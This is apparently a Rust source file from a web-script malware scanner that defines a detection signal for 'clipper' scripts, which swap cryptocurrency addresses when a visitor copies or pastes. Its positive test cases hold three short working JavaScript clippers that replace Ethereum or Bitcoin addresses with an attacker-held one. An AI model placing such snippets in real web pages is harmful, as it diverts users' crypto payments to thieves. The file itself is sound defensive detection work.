//! `coins-swapped-on-copy`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "coins-swapped-on-copy",
    description: "When a visitor copies or pastes a cryptocurrency address, the script replaces it with another one.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::CoinAddress]), one(&[Atom::CopyCall, Atom::ClipboardRead])],
    within: 200,
    only_if: Some(swaps),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"const r=[/\b0x[a-fA-F0-9]{40}\b/g];function swap(t){for(const x of r)t=t.replace(x,mine);return t}document.addEventListener('copy',e=>{const s=getSelection().toString();const n=swap(s);if(n!==s){e.clipboardData.setData('text/plain',n);e.preventDefault()}})"#,
            r#"let to='';fetch('/a').then(r=>r.json()).then(j=>to=j.a);document.addEventListener('copy',e=>{const s=getSelection().toString();if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(s)){e.clipboardData.setData('text/plain',to);e.preventDefault()}})"#,
            r#"document.addEventListener('paste',e=>{const t=e.clipboardData.getData('text');if(/^0x[0-9a-f]{40}$/i.test(t)){e.preventDefault();document.execCommand('insertText',false,'0x1111111111222222222233333333334444444444')}})"#,
        ],
        without: &[
            r#"document.addEventListener('paste',e=>{const t=e.clipboardData.getData('text');if(/^0x[0-9a-f]{40}$/i.test(t)){e.preventDefault();document.execCommand('insertText',false,t.trim())}})"#,
            r#"document.addEventListener('copy',e=>{const s=getSelection().toString().replace(/\s+/g,' ');if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(s)){e.clipboardData.setData('text/plain',s);e.preventDefault();toast('copied')}})"#,
            r#"document.addEventListener('copy',e=>{const s=getSelection().toString();e.clipboardData.setData('text/plain',s+' from our site');e.preventDefault()})"#,
            r#"button.onclick=()=>{if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(to))navigator.clipboard.writeText(to)}"#,
        ],
    },
};

fn swaps(evidence: &Evidence<'_>, held: Held) -> bool {
    on_copy(evidence, held) || on_paste(evidence, held)
}

/// Whether an address that the script holds is put where one is pasted.
fn on_paste(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 80);
    let listens = near.places().any(|at| {
        let listened = near.kind(at) == Some(Kind::Str)
            && near.word(at) == "paste"
            && matches!(near.before(at, 2), "addEventListener" | "on");
        listened || near.word(at) == "onpaste" && near.is(at + 1, b'=')
    });
    let is_held = |at: usize| near.has_fact_in(at..at + 1, &[Atom::AccountAddress]);
    let inserts = || {
        near.words(&["execCommand", "setRangeText"])
            .any(|at| near.is(at + 1, b'(') && (at + 2..at + 7).any(is_held))
            || near
                .words(&["value", "textContent", "innerText"])
                .any(|at| near.is(at + 1, b'=') && is_held(at + 2))
    };
    listens && near.has_word(&["preventDefault"]) && inserts()
}

fn on_copy(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 80);
    let listens = near.places().any(|at| {
        let listened = near.kind(at) == Some(Kind::Str)
            && matches!(near.word(at), "copy" | "cut")
            && matches!(near.before(at, 2), "addEventListener" | "on");
        listened || matches!(near.word(at), "oncopy" | "oncut") && near.is(at + 1, b'=')
    });
    listens
        && near.words(&["setData"]).filter(|at| near.is(at + 1, b'(')).any(|at| {
            let put = (at + 2..at + 8).find(|at| near.is(*at, b',')).map(|comma| comma + 1);
            put.is_some_and(|at| {
                near.kind(at) == Some(Kind::Name) && near.is(at + 1, b')') && is_another(near, at)
            })
        })
}

/// Whether a name does not hold what was selected: it was set elsewhere, or what was selected was put through a replacement.
fn is_another(near: Near<'_>, name: usize) -> bool {
    let values: Vec<usize> = near.values_of(near.word(name)).collect();
    let of_page = |value: &usize| {
        (*value..value + 16).take_while(|at| !near.is(*at, b';')).any(|at| SELECTED.contains(&near.word(at)))
    };
    let replaces = near.words(&["replace", "replaceAll"]).any(|at| {
        (at + 2..at + 6)
            .find(|at| near.is(*at, b','))
            .is_some_and(|comma| near.kind(comma + 1) == Some(Kind::Name))
    });
    replaces || !values.is_empty() && !values.iter().any(of_page)
}

/// Words of what the page shows or a visitor selects.
const SELECTED: &[&str] = &[
    "getSelection",
    "selection",
    "dataset",
    "target",
    "value",
    "textContent",
    "innerText",
    "getData",
    "toString",
];
